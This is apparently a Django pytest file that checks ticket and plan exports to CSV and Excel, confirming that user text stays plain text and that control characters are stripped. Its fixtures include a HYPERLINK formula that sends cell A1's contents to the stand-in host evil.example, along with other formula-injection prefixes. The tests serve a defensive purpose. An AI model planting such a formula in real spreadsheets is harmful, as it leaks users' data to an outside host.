"""Exports keep user text as text (issue 15): no formula from a title or a name, and one row with
a control character does not take a whole workbook down."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from openpyxl import Workbook, load_workbook

from greenlight.kernel import exports
from greenlight.tickets import services as ticket_services
from greenlight.tickets.models import Ticket
from tests.auth import verified_login

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
TZ = ZoneInfo("Asia/Shanghai")


def _cells(data: bytes) -> dict[str, object]:
    """Every non-empty cell of every sheet: its value by its text, with the cell's type."""
    book = load_workbook(io.BytesIO(data))
    return {
        str(c.value): c.data_type
        for sheet in book.worksheets
        for r in sheet.iter_rows()
        for c in r
        if c.value is not None
    }


def _stored_ticket(world, title: str) -> Ticket:
    """A ticket whose title came in before the edge checked text (stored as it was)."""
    ticket = ticket_services.report(
        actor=world.users.company,
        project=world.project1,
        title="placeholder",
        category="site",
        reported_at=datetime(2026, 9, 30, 16, tzinfo=TZ),
    )
    Ticket.objects.filter(pk=ticket.pk).update(title=title)
    return ticket


def test_ticket_export_survives_a_nul_and_writes_formulas_as_text(
    world, client, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    # given one ticket titled with control characters (NUL where the database keeps it: SQLite;
    # PostgreSQL refuses NUL itself but keeps the others) and others with formulas
    _stored_ticket(world, "a\x00b" if connection.vendor == "sqlite" else "a\x01b")
    _stored_ticket(world, "c\x1b[31md")
    _stored_ticket(world, FORMULA)
    _stored_ticket(world, "@SUM(1+1)")
    verified_login(client, world.users.coordinator)
    # when the coordinator exports the list
    response = client.get("/tickets/export.xlsx")
    # then the workbook opens, the NUL is gone and the formula is plain text
    assert response.status_code == 200
    cells = _cells(response.content)
    assert "ab" in cells
    assert "c[31md" in cells
    assert cells[FORMULA] == "s"
    assert cells["@SUM(1+1)"] == "s"
    assert not [v for v, kind in cells.items() if kind == "f"]


def test_plan_workbook_writes_a_matter_named_as_a_formula_as_text(world, client):
    matter = world.approval1.matter
    matter.name = "=1+2"
    matter.save(update_fields=["name"])
    verified_login(client, world.users.coordinator)
    response = client.get(f"/projects/{world.project1.pk}/plan.xlsx")
    assert response.status_code == 200
    cells = _cells(response.content)
    assert cells.get("=1+2") == "s", cells
    assert not [v for v, kind in cells.items() if kind == "f"]


def test_every_formula_sign_is_quoted_in_csv_and_typed_text_in_workbooks():
    signs = ["=1+2", "+1", "-1", "@A1", "\tx", "\rx"]
    out = io.StringIO()
    csv.writer(out).writerow(exports.csv_row([*signs, "plain", 7, "a\x00\x1fb"]))
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row[:6] == ["'" + s for s in signs]
    assert row[6:] == ["plain", "7", "ab"]
    book = Workbook()
    exports.append(book.active, [*signs, "a\x0bb"])
    data = exports.save(book)
    cells = _cells(data)
    assert all(cells[s] == "s" for s in signs)
    assert "ab" in cells
